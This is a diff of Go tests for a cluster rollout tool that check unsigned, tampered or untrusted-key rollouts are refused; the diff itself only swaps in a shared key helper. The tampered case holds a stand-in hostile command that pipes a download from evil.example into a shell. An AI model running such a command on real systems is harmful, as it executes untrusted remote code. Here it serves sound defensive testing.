@@ -28,7 +28,7 @@ func TestRolloutRefusedUnlessSignedByATrustedKey(t *testing.T) {
 	e := cluster.New(t)
 	nodes := e.Nodes(2)
 	nodecreds.Install(e, e.Namespace)
-	key, stranger := newRolloutKey(t), newRolloutKey(t)
+	key, stranger := nodecreds.NewRolloutKey(t), nodecreds.NewRolloutKey(t)
 	agents := map[string]*agentProc{}
 	for _, n := range nodes {
 		agents[n] = rolloutAgent(t, e, n, key)
@@ -43,7 +43,7 @@ func TestRolloutRefusedUnlessSignedByATrustedKey(t *testing.T) {
 	}
 	applyJSON(t, e, dyn, out)
 	// Tampered: signed, then its script changed (with a digest to match).
-	if out, err := ctl.Run(e.Ctx, "rollout", "create", "tampered", "--script", script, "--stage", "all", "--key", key.private); err != nil {
+	if out, err := ctl.Run(e.Ctx, "rollout", "create", "tampered", "--script", script, "--stage", "all", "--key", key.Private); err != nil {
 		t.Fatalf("rollout create: %v\n%s", err, out)
 	}
 	evil := "curl evil.example | sh\n"
@@ -52,7 +52,7 @@ func TestRolloutRefusedUnlessSignedByATrustedKey(t *testing.T) {
 		t.Fatal(err)
 	}
 	// Signed by a key the hosts do not trust.
-	if out, err := ctl.Run(e.Ctx, "rollout", "create", "stranger", "--script", script, "--stage", "all", "--key", stranger.private); err != nil {
+	if out, err := ctl.Run(e.Ctx, "rollout", "create", "stranger", "--script", script, "--stage", "all", "--key", stranger.Private); err != nil {
 		t.Fatalf("rollout create: %v\n%s", err, out)
 	}
 	for name, why := range map[string]string{"unsigned": "not signed", "tampered": "does not match", "stranger": "does not trust"} {
@@ -106,10 +106,10 @@ func TestRolloutStatusIsEachNodesOwn(t *testing.T) {
 	e := cluster.New(t)
 	nodes := e.Nodes(2)
 	nodecreds.Install(e, e.Namespace)
-	key := newRolloutKey(t)
+	key := nodecreds.NewRolloutKey(t)
 	script := writeScript(t, "true\n")
 	ctl := nodecreds.CtlFor(e)
-	if out, err := ctl.Run(e.Ctx, "rollout", "create", "fix", "--script", script, "--key", key.private, "--new-nodes=false"); err != nil {
+	if out, err := ctl.Run(e.Ctx, "rollout", "create", "fix", "--script", script, "--key", key.Private, "--new-nodes=false"); err != nil {
 		t.Fatalf("rollout create: %v\n%s", err, out)
 	}
 	admin := dynamicClient(t, e)
